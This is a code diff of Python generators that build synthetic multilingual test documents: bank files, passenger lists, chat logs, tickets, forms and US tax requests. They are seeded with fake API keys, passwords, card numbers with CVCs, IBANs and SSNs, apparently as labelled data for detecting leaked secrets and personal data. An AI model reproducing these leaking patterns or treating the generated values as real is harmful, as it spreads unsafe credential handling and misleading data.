+    <RmtInf><Ustrd>«ref»</Ustrd></RmtInf>
+   </CdtTrfTxInf>
+""", e2e=c.la(2), amt=f"{c.r.randint(10, 9000)}.{c.r.randint(0, 99):02d}", nm=c.person(), ib=c.iban(style="plain"), ref=c.la(c.pick(0, 2, 19)))
+    out.append("  </PmtInf>\n </CstmrCdtTrfInitn>\n</Document>\n")
+    return out
+
+
+def b30_t_ofx(c):
+    return b30_fill("""OFXHEADER:100
+DATA:OFXSGML
+VERSION:102
+<OFX>
+<BANKMSGSRSV1><STMTTRNRS><STMTRS>
+<CURDEF>EUR
+<BANKACCTFROM><BANKID>«bic»<ACCTID>«ib»<ACCTTYPE>CHECKING</BANKACCTFROM>
+<BANKTRANLIST>
+<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>«d1»<TRNAMT>-«a1»<FITID>«f1»<NAME>«p1»<MEMO>«m1»</STMTTRN>
+<STMTTRN><TRNTYPE>CREDIT<DTPOSTED>«d2»<TRNAMT>«a2»<FITID>«f2»<NAME>«p2»<MEMO>IBAN «ib2» «m2»</STMTTRN>
+</BANKTRANLIST>
+</STMTRS></STMTTRNRS></BANKMSGSRSV1>
+</OFX>
+""", bic=b30_bic(c.r, c.loc), ib=c.iban(style="plain"), d1="20261228", a1=f"{c.r.randint(5, 400)}.{c.r.randint(0, 99):02d}", f1=rnd(c.r, string.digits, 14),
+        p1=c.pick("AMAZON EU SARL", "REWE SAGT DANKE", "CARREFOUR", "ESSELUNGA", "ALBERT HEIJN"), m1="Karte " + c.la(12),
+        d2="20261229", a2=f"{c.r.randint(100, 4000)}.{c.r.randint(0, 99):02d}", f2=rnd(c.r, string.digits, 14), p2=c.person(), ib2=c.iban(style="plain"), m2=c.la(2))
+
+
+def b30_t_paxlst(c):
+    out = ["UNA:+.? '\nUNB+UNOA:4+" + c.pick("LH", "AF", "IB", "AZ", "KL", "BA") + "+USCSAPIS+261230:0915+" + rnd(c.r, string.digits, 9) + "'\n",
+           "UNH+PAX001+PAXLST:D:05B:UN:IATA'\nBGM+745'\nTDT+20+" + c.pick("LH400", "AF22", "IB6251", "AZ610", "KL601", "BA117") + "'\n"]
+    for _ in range(c.r.randint(1, 3)):
+        out += b30_fill("NAD+FL+++«ln»:«fn»+«st»+«city»'\nATT+2++«sex»'\nDTM+329:«dob»'\nNAT+2+«nat»'\nDOC+P:110:111+«pp»'\nDTM+36:«exp»'\n",
+                        ln=b30_ascii(c.f.last_name()).upper(), fn=b30_ascii(c.f.first_name()).upper(), st=b30_ascii(c.street()).upper()[:20],
+                        city=b30_ascii(c.city()).upper(), sex=c.pick("M", "F"), dob=c.dob("yymmdd"), nat=c.pick("DEU", "FRA", "ESP", "ITA", "NLD", "GBR"),
+                        pp=rnd(c.r, string.ascii_uppercase, 2) + rnd(c.r, string.digits, 7), exp=f"{c.r.randint(27, 35)}{c.r.randint(1, 12):02d}{c.r.randint(1, 28):02d}")
+    out.append("CNT+42:" + str(c.r.randint(1, 300)) + "'\nUNT+" + str(c.r.randint(10, 40)) + "+PAX001'\nUNZ+1+" + rnd(c.r, string.digits, 9) + "'\n")
+    return out
+
+
+def b30_t_gedcom(c):
+    return b30_fill("""0 HEAD
+1 SOUR «src»
+1 GEDC
+2 VERS 5.5.1
+1 CHAR UTF-8
+0 @I1@ INDI
+1 NAME «fn» /«ln»/
+1 SEX «sx»
+1 BIRT
+2 DATE «dob»
+2 PLAC «city»
+1 EMAIL «em»
+1 PHON «ph»
+0 @I2@ INDI
+1 NAME «fn2» /«ln»/
+1 BIRT
+2 DATE «dob2»
+1 DEAT
+2 DATE «death»
+1 NOTE Grabstelle «la»
+0 TRLR
+""", src=c.pick("Ancestry.com", "MyHeritage", "GRAMPS"), fn=c.first, ln=c.last, sx=c.pick("M", "F"), dob=c.dob("gedcom"), city=c.city(), em=c.myem(), ph=c.ph(),
+        fn2=c.f.first_name(), dob2=B30L("DATE_OF_BIRTH", b30_date(c.r, c.loc, 1905, 1935, "gedcom")), death=b30_date(c.r, c.loc, 1980, 2020, "gedcom"), la=c.la(19))
+
+
+def b30_t_sqlseed(c):
+    out = ["-- seeds/staging_users.sql  (" + c.pick("fake data only", "copied from prod, anonymise!", "Testdaten", "données de test") + ")\nINSERT INTO users (id, email, phone, birth_date, password_hash, api_token) VALUES\n"]
+    n = c.r.randint(2, 4)
+    for i in range(n):
+        hashed = c.r.random() < 0.6
+        out += b30_fill("  («id», '«em»', '«ph»', '«dob»', '«pwh»', '«tok»')«end»\n", id=i + 1, em=c.em(), ph=c.ph(variants=["e164"]), dob=c.dob("iso"),
+                        pwh=("$2b$12$" + rnd(c.r, AN + "./", 53)) if hashed else c.pw(safe=True), tok=c.sec(["GENERIC_SECRET", "JWT", "OPENAI_KEY"]),
+                        end="," if i < n - 1 else ";")
+    return out
+
+
+def b30_t_wikitable(c):
+    out = [c.pick("## Service accounts (internal, do not share)\n\n", "## Dienstkonten\n\n", "## Comptes de service\n\n", "## Cuentas de servicio\n\n") +
+           "| System | Host | User | Secret | Owner |\n|---|---|---|---|---|\n"]
+    for sysn in c.r.sample(["Jira", "Grafana", "pfSense", "Synology", "Unifi", "Zabbix", "Mailcow", "OpenAI", "Stripe", "Slack bot"], c.r.randint(3, 5)):
+        if sysn == "OpenAI":
+            sec = c.v("OPENAI_KEY")
+        elif sysn == "Stripe":
+            sec = c.v("STRIPE_KEY")
+        elif sysn == "Slack bot":
+            sec = c.v("SLACK_TOKEN")
+        else:
+            sec = c.pw(safe=True) if c.r.random() < 0.8 else "see 1Password"
+        out += [f"| {sysn} | "] + [c.ip4("p10")] + [" | " + c.pick("admin", "svc-" + sysn.lower()[:5], "root") + " | "] + [sec] + [" | "] + [c.em()] + [" |\n"]
+    return out
+
+
+def b30_t_roster(c):
+    lbl = {"en": "name|dob|mobile|email|iban|start", "de": "Name|Geburtsdatum|Mobil|E-Mail|IBAN|Eintritt", "fr": "nom|date_naissance|portable|courriel|iban|entree",
+           "es": "nombre|fecha_nacimiento|movil|email|iban|alta", "it": "nome|data_nascita|cellulare|email|iban|assunzione", "nl": "naam|geboortedatum|mobiel|email|iban|indienst"}
+    out = [lbl[c.lang] + "\n"]
+    for _ in range(c.r.randint(2, 4)):
+        fn, ln = c.f.first_name(), c.f.last_name()
+        out += [f"{fn} {ln}|"] + [c.dob("num")] + ["|"] + [c.ph()] + ["|"] + [c.em(first=fn, last=ln)] + ["|"] + [c.iban()] + ["|" + c.ts("date", 400) + "\n"]
+    return out
+
+
+# ---------- blind30 text documents: chat, help and docs ----------
+
+def b30_t_discord(c):
+    tok = c.gen("discord")
+    return b30_fill("""[«t1»] «u1»: my bot won't come online, here's my code
+```js
+const { Client, GatewayIntentBits } = require('discord.js');
+const client = new Client({ intents: [GatewayIntentBits.Guilds] });
+client.login('«tok»');
+```
+[«t2»] «mod»: you just posted your bot token, reset it in the developer portal right now
+[«t2»] «u1»: oh no. ok reset it. new one is in .env now as DISCORD_TOKEN=«st»
+[«t3»] «u1»: also the openai key in the same file was «ok» should i reset that too?
+""", t1=c.ts("time"), u1=c.pick("pixelfox", "ninja_dev", "tomato42", "luz.codes"), tok=tok, t2=c.ts("time"), mod=c.pick("Mod | Ari", "helper-bot", "Staff Kim"),
+        st=c.st(), t3=c.ts("time"), ok=c.v("OPENAI_KEY"))
+
+
+def b30_t_botfather(c):
+    return b30_fill("""BotFather: Done! Congratulations on your new bot. You will find it at t.me/«bot». 
+Use this token to access the HTTP API:
+«tok»
+Keep your token secure and store it safely, it can be used by anyone to control your bot.
+«u»: /setdescription
+«u»: works! curl https://api.telegram.org/bot«tok»/getMe returns ok. Alerts go to «ph» too via the SMS fallback.
+""", bot=c.pick("shop_alerts_bot", "kita_info_bot", "MeteoStationBot", "fietsverhuur_bot"), tok=c.gen("telegram"), u=c.first, ph=c.ph())
+
+
+def b30_t_teams(c):
+    a, b = c.name, c.person()
+    pw = c.pw()
+    msgs = {"en": ["can you send me the login for the «sys» admin?", "user is admin, password «pw» - change it after", "thanks! and the supplier's number?", "«ph», ask for «who»"],
+            "de": ["kannst du mir den Zugang für «sys» schicken?", "User admin, Passwort «pw» - bitte danach ändern", "danke! und die Nummer vom Lieferanten?", "«ph», nach «who» fragen"],
+            "fr": ["tu peux m'envoyer l'accès admin «sys» ?", "utilisateur admin, mot de passe «pw» - à changer ensuite", "merci ! et le numéro du fournisseur ?", "«ph», demander «who»"],
+            "es": ["¿me pasas el acceso de administrador de «sys»?", "usuario admin, contraseña «pw» - cámbiala luego", "¡gracias! ¿y el teléfono del proveedor?", "«ph», pregunta por «who»"],
+            "it": ["mi mandi l'accesso admin di «sys»?", "utente admin, password «pw» - poi cambiala", "grazie! e il numero del fornitore?", "«ph», chiedere di «who»"],
+            "nl": ["kun je me de admin-login van «sys» sturen?", "gebruiker admin, wachtwoord «pw» - daarna wijzigen", "top! en het nummer van de leverancier?", "«ph», vraag naar «who»"]}[c.lang]
+    ts = sorted(c.ts("time") for _ in range(4))
+    out = []
+    for i, m in enumerate(msgs):
+        out += [f"[{ts[i]}] {a if i % 2 == 0 else b}: "] + b30_fill(m, sys=c.pick("Unifi", "Shopware", "Datev", "Sage", "WordPress"), pw=pw, ph=c.ph(), who=c.f.first_name()) + ["\n"]
+    return out
+
+
+def b30_t_qa(c):
+    return b30_fill("""Title: «title»
+
+I keep getting `401 Unauthorized` when calling the API from my Flask app. The key works in curl.
+
+```python
+import os, openai
+client = openai.OpenAI(api_key="«ok»")  # hardcoded for now
+resp = client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}])
+```
+
+In production I use `os.environ["OPENAI_API_KEY"]` and the docs example `«ph»` also fails (obviously).
+Running on «ip», Python 3.12, openai «ver». Any ideas?
+
+**Edit:** someone pointed out I leaked my key. Rotated it, thanks. Replaced above with `«st»`... except I didn't. Oops.
+""", title=c.pick("OpenAI python client 401 with valid key", "Why does my API key work in curl but not in Flask?"), ok=c.v("OPENAI_KEY"),
+        ph=B30L("PLACEHOLDER", c.pick("sk-proj-" + "X" * 48, "sk-" + "x" * 48)), ip=c.ip4("pub"), ver=c.la(3)[1:], st=c.pick("sk-...", "<your-key>"))
+
+
+def b30_t_ghissue(c):
+    return b30_fill("""### Describe the bug
+After upgrading to «ver» the Slack notifier crashes on startup.
+
+### Logs
+```
+«t» INFO  notifier: connecting to Slack as bot with token «sl»
+«t» ERROR notifier: invalid_auth (team «team»)
+«t» WARN  http: retrying POST https://slack.com/api/chat.postMessage from «ip»
+```
+
+### Config
+```yaml
+slack:
+  token: «sl»
+  channel: "#ops"
+  fallback_email: «em»
+summarizer:
+  provider: «prov»
+  api_key: «llm»
+```
+### Environment
+- OS: «os»
+- Version: «ver»
+- Workflow env: GH_TOKEN=«gh»
+""", ver=c.la(3), t=c.ts("iso", 1), sl=c.v("SLACK_TOKEN"), team="T" + rnd(c.r, string.ascii_uppercase + string.digits, 10), ip=c.ip4("pub"), em=c.em(), prov=(lk := c.v(c.pick("OPENAI_KEY", "ANTHROPIC_KEY"))) and ("openai" if lk.typ == "OPENAI_KEY" else "anthropic"), llm=lk,
+        os=c.pick("Ubuntu 24.04", "Debian 12", "macOS 15.2", "Windows Server 2022"), gh=c.v("GITHUB_TOKEN"))
+
+
+def b30_t_jira(c):
+    return b30_fill("""«who» added a comment - «when»
+«txt»
+{code:title=application-«env».yml}
+spring:
+  datasource:
+    url: jdbc:postgresql://«ip»:5432/orders
+    username: orders
+    password: «pw»
+stripe:
+  api-key: «sk»
+google:
+  maps-key: «gk»
+openai:
+  api-key: «ok»
+{code}
+«txt2»
+""", who=c.name, when=c.pick("30/Dec/26 9:12 AM", "29/Dec/26 4:40 PM"), txt=c.pick("Here is the config from the box, the payment call fails with it:",
+                                                                                      "Anbei die Config vom Server, damit schlägt der Zahlungsaufruf fehl:",
+                                                                                      "Voici la config du serveur, l'appel de paiement échoue avec :"),
+        env=c.pick("prod", "staging"), ip=c.ip4("p10"), pw=c.pw(safe=True), sk=c.v("STRIPE_KEY"), gk=c.v("GOOGLE_API_KEY"), ok=c.v("OPENAI_KEY"),
+        txt2=c.pick("Ticket " + c.la(19) + " is related.", "Siehe auch " + c.la(1) + ".", "cc @" + c.f.first_name().lower()))
+
+
+def b30_t_callcentre(c):
+    card = c.card(c.pick("space", "plain"))
+    lines = {"en": ["Agent: Thanks for calling, can I take your date of birth?", "Caller: «dob»", "Agent: and the long number on the card?", "Caller: «card», expiry «exp», the code on the back is «cvc»",
+                    "Agent: and a number to call you back?", "Caller: «ph»"],
+             "de": ["Agent: Danke für Ihren Anruf, Ihr Geburtsdatum bitte?", "Anrufer: «dob»", "Agent: Und die Kartennummer?", "Anrufer: «card», gültig bis «exp», Prüfziffer «cvc»",
+                    "Agent: Unter welcher Nummer erreichen wir Sie?", "Anrufer: «ph»"],
+             "fr": ["Conseiller : Merci de votre appel, votre date de naissance ?", "Client : «dob»", "Conseiller : Et le numéro de la carte ?", "Client : «card», expire «exp», cryptogramme «cvc»",
+                    "Conseiller : Un numéro pour vous rappeler ?", "Client : «ph»"],
+             "es": ["Agente: Gracias por llamar, ¿su fecha de nacimiento?", "Cliente: «dob»", "Agente: ¿Y el número de la tarjeta?", "Cliente: «card», caduca «exp», el CVV es «cvc»",
+                    "Agente: ¿Un teléfono de contacto?", "Cliente: «ph»"],
+             "it": ["Operatore: Grazie per la chiamata, la sua data di nascita?", "Cliente: «dob»", "Operatore: E il numero della carta?", "Cliente: «card», scade «exp», il CVV è «cvc»",
+                    "Operatore: Un numero per richiamarla?", "Cliente: «ph»"],
+             "nl": ["Medewerker: Bedankt voor uw telefoontje, uw geboortedatum?", "Beller: «dob»", "Medewerker: En het kaartnummer?", "Beller: «card», geldig tot «exp», de code achterop is «cvc»",
+                    "Medewerker: Op welk nummer kunnen we u terugbellen?", "Beller: «ph»"]}[c.lang]
+    vals = dict(dob=c.dob(c.pick("num", "long")), card=card, exp=b30_exp(c.r), cvc=c.cvc(card), ph=c.ph())
+    out = [f"[transcript {c.la(19)} | {c.ts('sql', 1)} | queue {c.pick('billing', 'fraud', 'cards')}]\n"]
+    for ln in lines:
+        out += b30_fill(ln, **vals) + ["\n"]
+    return out
+
+
+def b30_t_readme(c):
+    return b30_fill("""# «proj»
+
+## Quick start
+
+```bash
+cp .env.example .env
+# edit .env:
+OPENAI_API_KEY=«p1»
+SLACK_BOT_TOKEN=«p2»
+AWS_ACCESS_KEY_ID=«p3»
+```
+
+Keys look like `«p4»`; never commit a real one (CI scans for them). For local testing you can
+use the Stripe test key `«p5»`. Questions: «em».
+
+## Deploy
+
+`make deploy HOST=«ip»` (needs the `«st»` secret in the pipeline).
+""", proj=c.pick("agent-toolbox", "invoice-bot", "k8s-cost-report", "helpdesk-summarizer"), p1=B30L("PLACEHOLDER", c.pick(*[p for p in B30_PH if p.startswith("sk-") and not p.startswith("sk-ant")])), p2=B30L("PLACEHOLDER", c.pick("xoxb-000000000000-0000000000000-" + "x" * 24, "xoxb-123456789012-1234567890123-EXAMPLEexampleEXAMPLE1234")),
+        p3=B30L("PLACEHOLDER", c.pick("AKIAIOSFODNN7EXAMPLE", "AKIAEXAMPLEKEY000001")), p4=c.phd(), p5=B30L("PLACEHOLDER", c.pick("sk_test_" + "X" * 24, "rk_test_yourRestrictedKeyHere0000")),
+        em=c.em(), ip=c.ip4("pub"), st=c.st())
+
+
+def b30_t_apidoc(c):
+    real = c.sec(["GITHUB_TOKEN", "ANTHROPIC_KEY", "GOOGLE_API_KEY", "STRIPE_KEY"])
+    return b30_fill("""### Authentication
+
+Send your key in the `Authorization` header:
+
+    curl https://api.«dom»/v2/contacts \\
+      -H "Authorization: Bearer «p1»" \\
+      -d email=«em»
+
+Webhooks are signed with your secret key (`«p2»` in the examples).
+
+Example response:
+
+    {"id": "«la»", "email": "«em»", "phone": "«ph»"}
+
+> Internal note (remove before publishing): the staging key is «real», see «tk».
+""", dom=c.pick(*B30_ORGDOM), p1=c.phd(), p2=B30L("PLACEHOLDER", c.pick("sk_test_" + "X" * 24, "sk_live_EXAMPLE" + "0" * 17)), em=c.em(), la=c.la(9), ph=c.ph(variants=["e164"]), real=real, tk=c.la(1))
+
+
+# ---------- blind30 text documents: paperwork in the seven locales ----------
+
+B30_LBL = {
+    "en": {"name": "Full name", "dob": "Date of birth", "phone": "Phone", "mobile": "Mobile", "email": "Email", "iban": "IBAN", "card": "Card number",
+           "cvc": "Security code", "exp": "Expiry", "addr": "Address", "pw": "Password", "ref": "Reference", "date": "Date", "ip": "IP address"},
+    "de": {"name": "Vor- und Nachname", "dob": "Geburtsdatum", "phone": "Telefon", "mobile": "Mobil", "email": "E-Mail", "iban": "IBAN", "card": "Kartennummer",
+           "cvc": "Prüfnummer", "exp": "Gültig bis", "addr": "Anschrift", "pw": "Passwort", "ref": "Aktenzeichen", "date": "Datum", "ip": "IP-Adresse"},
+    "fr": {"name": "Nom et prénom", "dob": "Date de naissance", "phone": "Téléphone", "mobile": "Portable", "email": "Courriel", "iban": "IBAN", "card": "Numéro de carte",
+           "cvc": "Cryptogramme", "exp": "Expiration", "addr": "Adresse", "pw": "Mot de passe", "ref": "Référence", "date": "Date", "ip": "Adresse IP"},
+    "es": {"name": "Nombre y apellidos", "dob": "Fecha de nacimiento", "phone": "Teléfono", "mobile": "Móvil", "email": "Correo electrónico", "iban": "IBAN",
+           "card": "Número de tarjeta", "cvc": "CVV", "exp": "Caducidad", "addr": "Dirección", "pw": "Contraseña", "ref": "Referencia", "date": "Fecha", "ip": "Dirección IP"},
+    "it": {"name": "Nome e cognome", "dob": "Data di nascita", "phone": "Telefono", "mobile": "Cellulare", "email": "E-mail", "iban": "IBAN", "card": "Numero carta",
+           "cvc": "CVV", "exp": "Scadenza", "addr": "Indirizzo", "pw": "Password", "ref": "Riferimento", "date": "Data", "ip": "Indirizzo IP"},
+    "nl": {"name": "Naam", "dob": "Geboortedatum", "phone": "Telefoon", "mobile": "Mobiel", "email": "E-mailadres", "iban": "IBAN", "card": "Kaartnummer",
+           "cvc": "CVC-code", "exp": "Geldig t/m", "addr": "Adres", "pw": "Wachtwoord", "ref": "Kenmerk", "date": "Datum", "ip": "IP-adres"},
+}
+B30_GREET = {"en": ["Hi,", "Hello,", "Dear Sir or Madam,"], "de": ["Hallo,", "Guten Tag,", "Sehr geehrte Damen und Herren,"],
+             "fr": ["Bonjour,", "Madame, Monsieur,"], "es": ["Hola,", "Buenos días:", "Estimados señores:"],
+             "it": ["Buongiorno,", "Salve,", "Gentili signori,"], "nl": ["Hallo,", "Beste,", "Geachte heer/mevrouw,"]}
+B30_BYE = {"en": ["Thanks,", "Kind regards,", "Best,"], "de": ["Viele Grüße", "Mit freundlichen Grüßen"], "fr": ["Cordialement,", "Bien à vous,"],
+           "es": ["Un saludo,", "Atentamente,"], "it": ["Cordiali saluti,", "Grazie,"], "nl": ["Met vriendelijke groet,", "Groetjes,"]}
+B30_PWNEG = {"en": ["Please never send passwords by e-mail.", "Your password must be 12 characters or more.", "We will never ask for your password."],
+             "de": ["Bitte senden Sie niemals Passwörter per E-Mail.", "Das Passwort muss mindestens 12 Zeichen haben."],
+             "fr": ["Ne communiquez jamais votre mot de passe.", "Le mot de passe doit contenir 12 caractères."],
+             "es": ["Nunca le pediremos su contraseña.", "La contraseña debe tener al menos 12 caracteres."],
+             "it": ["Non le chiederemo mai la password.", "La password deve avere almeno 12 caratteri."],
+             "nl": ["Wij vragen nooit om uw wachtwoord.", "Het wachtwoord moet minstens 12 tekens hebben."]}
+
+# (kind, titles per language, fields); field "pw" comes with a sentence on the portal account, "card" with expiry and CVC.
+B30_FORMS = [
+    ("funeral", {"en": "Funeral arrangement - deceased and next of kin", "de": "Bestattungsauftrag - Verstorbene/r und Angehörige", "fr": "Organisation des obsèques - défunt et proche",
+                 "es": "Contratación de servicio funerario", "it": "Incarico servizio funebre", "nl": "Opdracht uitvaartverzorging"}, ["dob", "phone", "email", "iban"]),
+    ("driving", {"en": "Driving school enrolment", "de": "Anmeldung Fahrschule (Klasse B)", "fr": "Inscription auto-école (permis B)", "es": "Matrícula autoescuela (permiso B)",
+                 "it": "Iscrizione autoscuola (patente B)", "nl": "Inschrijving rijschool (rijbewijs B)"}, ["dob", "mobile", "email", "iban", "pw"]),
+    ("blood", {"en": "Blood donor registration", "de": "Anmeldung Blutspende", "fr": "Inscription au don du sang", "es": "Registro de donante de sangre",
+               "it": "Registrazione donatore di sangue", "nl": "Aanmelding bloeddonor"}, ["dob", "mobile", "email"]),
+    ("energy", {"en": "Switching energy supplier", "de": "Stromanbieterwechsel - Auftrag", "fr": "Changement de fournisseur d'électricité", "es": "Cambio de comercializadora eléctrica",
+                "it": "Cambio fornitore luce e gas", "nl": "Overstappen energieleverancier"}, ["dob", "phone", "email", "iban", "pw"]),
+    ("porting", {"en": "Mobile number porting request", "de": "Rufnummernmitnahme (Portierung)", "fr": "Demande de portabilité du numéro", "es": "Solicitud de portabilidad",
+                 "it": "Richiesta di portabilità del numero", "nl": "Nummerbehoud aanvraag"}, ["dob", "mobile", "email", "iban"]),
+    ("carins", {"en": "Car insurance quote", "de": "Angebot Kfz-Versicherung", "fr": "Devis assurance auto", "es": "Presupuesto seguro de coche",
+                "it": "Preventivo RC auto", "nl": "Offerte autoverzekering"}, ["dob", "phone", "email", "card"]),
+    ("wedding", {"en": "Wedding venue deposit", "de": "Anzahlung Hochzeitslocation", "fr": "Acompte salle de mariage", "es": "Señal finca para boda",
+                 "it": "Caparra location matrimonio", "nl": "Aanbetaling trouwlocatie"}, ["phone", "email", "card", "iban"]),
+    ("scholar", {"en": "Scholarship application", "de": "Stipendienantrag", "fr": "Demande de bourse", "es": "Solicitud de beca", "it": "Domanda di borsa di studio",
+                 "nl": "Aanvraag studiebeurs"}, ["dob", "email", "phone", "iban", "pw"]),
+    ("cv", {"en": "Curriculum vitae", "de": "Lebenslauf", "fr": "Curriculum vitae", "es": "Currículum vítae", "it": "Curriculum vitae", "nl": "Curriculum vitae"},
+     ["dob", "mobile", "email", "ip"]),
+    ("passport", {"en": "Passport appointment booking", "de": "Terminbuchung Reisepass (Bürgeramt)", "fr": "Rendez-vous passeport (mairie)", "es": "Cita previa pasaporte",
+                  "it": "Prenotazione passaporto (questura)", "nl": "Afspraak paspoort (gemeente)"}, ["dob", "phone", "email"]),
+    ("pension", {"en": "Pension statement request", "de": "Anforderung Rentenauskunft", "fr": "Demande de relevé de carrière", "es": "Solicitud de informe de vida laboral",
+                 "it": "Richiesta estratto conto previdenziale", "nl": "Aanvraag pensioenoverzicht"}, ["dob", "email", "iban", "pw"]),
+    ("lostcard", {"en": "Lost or stolen card report", "de": "Verlustmeldung Kreditkarte", "fr": "Déclaration de perte de carte", "es": "Denuncia de pérdida de tarjeta",
+                  "it": "Denuncia smarrimento carta", "nl": "Melding verlies bankpas"}, ["dob", "phone", "card", "iban"]),
+    ("cowork", {"en": "Coworking membership", "de": "Coworking-Mitgliedschaft", "fr": "Abonnement coworking", "es": "Alta coworking", "it": "Abbonamento coworking",
+                "nl": "Lidmaatschap flexplek"}, ["phone", "email", "card", "pw", "ip"]),
+    ("travel", {"en": "Speaker travel reimbursement", "de": "Reisekostenerstattung (Referent/in)", "fr": "Remboursement de frais de déplacement", "es": "Reembolso de gastos de viaje",
+                "it": "Rimborso spese di viaggio", "nl": "Declaratie reiskosten spreker"}, ["email", "phone", "iban", "dob"]),
+    ("removal", {"en": "Removals quote request", "de": "Umzugsangebot anfragen", "fr": "Demande de devis déménagement", "es": "Presupuesto de mudanza",
+                 "it": "Preventivo trasloco", "nl": "Offerte verhuizing"}, ["phone", "mobile", "email", "card"]),
+    ("music", {"en": "Music school enrolment (pupil and parent)", "de": "Anmeldung Musikschule", "fr": "Inscription conservatoire", "es": "Matrícula escuela de música",
+               "it": "Iscrizione scuola di musica", "nl": "Inschrijving muziekschool"}, ["dob", "phone", "email", "iban"]),
+    ("marina", {"en": "Marina berth rental", "de": "Liegeplatzvertrag Yachthafen", "fr": "Location d'anneau au port", "es": "Alquiler de amarre",
+                "it": "Contratto posto barca", "nl": "Ligplaatshuur jachthaven"}, ["dob", "phone", "email", "iban", "card"]),
+    ("skipass", {"en": "Season pass order", "de": "Saisonkarte Bestellung", "fr": "Commande forfait saison", "es": "Pedido forfait de temporada",
+                 "it": "Ordine skipass stagionale", "nl": "Bestelling seizoenskaart"}, ["dob", "email", "card", "mobile"]),
+]
+B30_PWLINE = {"en": ["Portal login: «em» / «pw»", "I set the online account password to «pw»", "Password for the portal: «pw»"],
+              "de": ["Zugang zum Kundenportal: «em» / «pw»", "Das Passwort fürs Portal lautet «pw»", "Kennwort Onlinekonto: «pw»"],
+              "fr": ["Accès espace client : «em» / «pw»", "Le mot de passe du compte en ligne est «pw»", "mdp espace client : «pw»"],
+              "es": ["Acceso área cliente: «em» / «pw»", "La contraseña de la cuenta online es «pw»", "Contraseña del portal: «pw»"],
+              "it": ["Accesso area clienti: «em» / «pw»", "La password dell'account online è «pw»", "Password portale: «pw»"],
+              "nl": ["Inlog klantportaal: «em» / «pw»", "Het wachtwoord voor het portaal is «pw»", "Wachtwoord mijn-omgeving: «pw»"]}
+B30_DOBLINE = {"en": "I was born on «d».", "de": "Ich bin am «d» geboren.", "fr": "Je suis né(e) le «d».", "es": "Nací el «d».", "it": "Sono nato/a il «d».", "nl": "Ik ben geboren op «d»."}
+B30_CALL = {"en": "You can reach me on «p».", "de": "Sie erreichen mich unter «p».", "fr": "Vous pouvez me joindre au «p».", "es": "Me pueden localizar en el «p».",
+            "it": "Potete contattarmi al «p».", "nl": "U kunt mij bereiken op «p»."}
+
+
+def b30_form(c, form):
+    kind, titles, fields = form
+    lang = c.lang
+    lb = B30_LBL[lang]
+    title = titles[lang]
+    em = c.myem()
+    vals = {"dob": c.dob(), "phone": c.ph(), "mobile": c.ph(), "email": em, "iban": c.iban(), "card": c.card(), "pw": c.pw(), "ip": c.ip4("pub")}
+    cvc = c.cvc(vals["card"])
+    style = c.r.choice(["form", "form", "mail", "md"])
+    ref = c.la(c.r.choice([0, 1, 2, 19, 20]))
+    other_date = c.ts("dmy" if lang in ("de",) else "date", 60)
+    out = []
+    if style == "mail":
+        out += [f"Subject: {title} - {ref}\n\n{c.r.choice(B30_GREET[lang])}\n\n"]
+        for fld in fields:
+            if fld == "dob":
+                out += b30_fill(B30_DOBLINE[lang], d=vals["dob"]) + [" "]
+            elif fld in ("phone", "mobile"):
+                out += b30_fill(B30_CALL[lang], p=vals[fld]) + [" "]
+            elif fld == "iban":
+                out += [lb["iban"] + ": "] + [vals["iban"]] + [". "]
+            elif fld == "card":
+                out += [lb["card"] + " "] + [vals["card"]] + [f", {lb['exp']} {b30_exp(c.r)}, {lb['cvc']} "] + [cvc] + [". "]
+            elif fld == "pw":
+                out += b30_fill(c.r.choice(B30_PWLINE[lang]), em=em, pw=vals["pw"]) + [". "]
+            elif fld == "ip":
+                out += [f"({lb['ip']}: "] + [vals["ip"]] + [") "]
+        if "email" in fields and "pw" not in fields:
+            out += ["\n", lb["email"] + ": "] + [em]
+        out += [f"\n{c.r.choice(B30_PWNEG[lang]) if c.r.random() < 0.3 else ''}\n\n{c.r.choice(B30_BYE[lang])}\n{c.name}\n"]
+        if c.r.random() < 0.5:
+            out += [c.ph()] + ["\n"]
+        return [x for x in out if x != ""]
+    if style == "md":
+        out += [f"### {title}\n\n| | |\n|---|---|\n| {lb['ref']} | {ref} |\n| {lb['name']} | {c.name} |\n"]
+        row = lambda k, v: [f"| {lb[k]} | "] + v + [" |\n"]
+        fmt = row
+    else:
+        out += [f"{title.upper()}\n{'=' * min(len(title), 60)}\n{lb['ref']}: {ref}\n{lb['date']}: {other_date}\n{lb['name']}: {c.name}\n{lb['addr']}: {c.street()}, {c.city()}\n"]
+        fmt = lambda k, v: [f"{lb[k]}: "] + v + ["\n"]
+    for fld in fields:
+        if fld == "card":
+            out += fmt("card", [vals["card"]]) + fmt("exp", [b30_exp(c.r)]) + fmt("cvc", [cvc])
+        else:
+            out += fmt(fld, [vals[fld]])
+    if c.r.random() < 0.4:
+        out += fmt("ref", [c.la(c.r.choice([10, 11, 12, 14, 22]))])
+    if kind in ("music", "funeral", "scholar") and c.r.random() < 0.6:
+        # a second person: the parent / next of kin, with their own contact
+        out += [f"\n{c.person()}\n"] + fmt("phone", [c.ph()]) + fmt("email", [c.em()])
+    return out
+
+
+# ---------- blind30 text documents: US paperwork (en_US) ----------
+
+def b30_us_w9(c):
+    return b30_fill("""Subject: W-9 for vendor setup - «vend»
+
+Hi «fn»,
+Per your request, here is my W-9 info (sole proprietor, no EIN yet):
+Name: «name»
+Business name: «vend»
+Address: «st», «city»
+TIN (SSN): «ssn»
+Email for 1099s: «em»
+Phone: «ph»
+Please pay by ACH to routing «rt», account «acct». Invoice «inv» attached.
+""", vend=c.f.company(), fn=c.f.first_name(), name=c.name, st=c.street(), city=c.city(), ssn=c.ssn(), em=c.myem(), ph=c.ph(other=0), rt=rnd(c.r, string.digits, 9),
+        acct=rnd(c.r, string.digits, 10), inv=c.la(2))
+
+
+def b30_us_1099(c):
+    return b30_fill("""CORRECTED 1099-NEC request
+Payer: «payer» (EIN «ein»)
+Recipient: «name»
+Recipient TIN as filed: XXX-XX-«l4»  (wrong)
+Correct recipient TIN: «ssn»
+Box 1 nonemployee compensation: $«amt»
+Recipient email: «em», phone «ph»
+Account number (optional): «acct»
+""", payer=c.f.company(), ein=f"{c.r.randint(10, 99)}-{rnd(c.r, string.digits, 7)}", name=c.name, l4=rnd(c.r, string.digits, 4), ssn=c.ssn(),
+        amt=f"{c.r.randint(600, 90000):,}.{c.r.randint(0, 99):02d}", em=c.myem(), ph=c.ph(other=0), acct=c.la(19))
+
+
